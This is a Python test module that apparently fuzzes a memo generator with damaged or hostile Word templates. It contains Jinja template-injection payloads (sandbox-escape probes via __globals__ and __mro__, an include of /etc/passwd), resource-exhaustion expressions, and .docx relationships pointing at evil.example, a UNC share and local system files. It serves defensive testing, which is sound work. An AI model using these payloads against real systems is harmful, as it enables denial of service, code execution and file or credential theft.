"""Templates of memos: damaged Word files, and templates that do more than show."""

from collections.abc import Callable
from functools import cache, partial
from random import Random

from tests.attacks import SEEDS
from tests.hostile.mutations import archive_of, changed, flipped, other_parts, parts_of
from tests.hostile.trial import File, Trial, arguments
from tests.hostile.turns import in_turn
from tests.hostile.uses import writing
from tests.places import ROOT

TEXTS = (
    "{{ 'a'*10**10 }}", "{{ '%9999999999d' % 1 }}", "{{ 'a'|center(9999999999) }}", "{{ ['a'*1000]*100000|join }}", "{{ range(999999999)|list }}", "{{ 10**10**8 }}", "{{ 9**9**9**9 }}", "{{ lipsum(n=100000) }}", "{{ '' .join(['a'*9999]*99999) }}",
    "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}", "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{{ " + "(" * 500 + "1" + ")" * 500 + " }}", "{{ 1" + "+1" * 5_000 + " }}", "{{ " + "not " * 3_000 + "1 }}", "{{ " + "[" * 3_000 + " }}", "{% if 1 %}" * 200 + "{% endif %}" * 200, "{% for x in [1] %}" * 30 + "{% endfor %}" * 30,
    "{{ title", "{% for x in sections %}", "{% endfor %}", "{% nonsense %}", "{{ }}", "{{ . }}", "{{ title.x.y.z }}", "{{ tittle }}", "{{ sections[99] }}", "{{ section['x'] }}", "{{ 1/0 }}", "{{ title|nonsense }}", "{{ title() }}", "{{ namespace(x=1) }}",
    "{{ self }}", "{{ cycler.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}", "{{ title.__class__ }}", "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% extends 'x' %}", "{{ config }}", "{{ request }}", "{{ joiner.__init__ }}", "{{ ()|attr('__class__') }}", "{{ title.format.__globals__ }}",
    "{%p if 1 %}", "{%tr for x in sections %}{%tr endfor %}", "{%tc x %}", "{%r x %}", "{{p title }}", "{{r title }}", "{# x", "{% raw %}{{ title }}", "{% set title = 5 %}{{ title }}", "{% filter upper %}{{ title }}{% endfilter %}", "{{ title|upper|lower|e|safe }}", "{{ title * 1000000000 }}", "{{ 'x'.ljust(9999999999) }}", "{{ sections|map('attribute')|list }}",
    *SEEDS,
)  # fmt: skip
_DOCUMENT = "word/document.xml"


@cache
def own() -> bytes:
    """The program's own template."""
    return (ROOT / "templates/memo.docx").read_bytes()


def saying(text: str) -> bytes:
    """A small template with that text in it."""
    safe = text.replace("&", "&amp;").replace("<", "&lt;").replace("\u2028", " ")
    parts = parts_of(own())
    head, _, body = parts[_DOCUMENT].partition(b"<w:body>")
    section = body[body.rindex(b"<w:sectPr") :]
    paragraphs = "".join(f"<w:p><w:r><w:t>{one}</w:t></w:r></w:p>" for one in ("{{ title }}", safe))
    parts[_DOCUMENT] = head + b"<w:body>" + paragraphs.encode("utf-8", "replace") + section
    return archive_of(parts)


def _related(target: str, mode: str = ' TargetMode="External"', kind: str = "attachedTemplate") -> bytes:
    relation = f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    parts = parts_of(saying("{{ name }}"))
    name = "word/_rels/settings.xml.rels" if kind == "attachedTemplate" else "word/_rels/document.xml.rels"
    before = parts.get(
        name,
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
    )
    parts[name] = before.replace(b"</Relationships>", relation.encode())
    return archive_of(parts)


SPECIAL: tuple[Callable[[], bytes], ...] = (
    lambda: b"", lambda: b"PK", lambda: own()[:3_000], lambda: own() + own(), lambda: _related("http://evil.example/t.dotm"), lambda: _related("file:///etc/passwd"), lambda: _related("\\\\evil.example\\x", kind="image"), lambda: _related("http://evil.example/x.png", kind="image"),
    lambda: _related("../../../etc/passwd", "", kind="image"), lambda: _related("nowhere.xml", "", kind="header"), lambda: _related("http://evil.example", kind="hyperlink"), lambda: archive_of({}), lambda: archive_of({"x": b""}),
)  # fmt: skip


def _content(random: Random, number: int) -> bytes:
    listed: list[Callable[[], bytes]] = [*SPECIAL, *(partial(saying, text) for text in TEXTS)]
    special = in_turn(number, 2, listed)
    if special is not None:
        return special()
    chosen = random.random()
    if chosen < 0.4:
        return flipped(random, own())
    if chosen < 0.5:
        return changed(random, own())
    if chosen < 0.8:
        return other_parts(random, own() if random.random() < 0.3 else saying(random.choice(TEXTS)))
    return saying("".join(random.choice(TEXTS) for _ in range(2)))


def make(random: Random, number: int) -> Trial:
    """A memo that is written with such a template."""
    name = random.choice((b"t.docx", b"t.docx", b"t.docx", b"t.docm", b"t.dotx", b"t"))
    entries = (
        File(name, _content(random, number)),
        File(b"a.yaml", "项目名称: 某项目\n受理日期: 2015-06-01\n".encode()),
    )
    return writing(arguments("memo", "a.yaml", "-o", "m.docx", "--template", name), entries, b"m.docx")
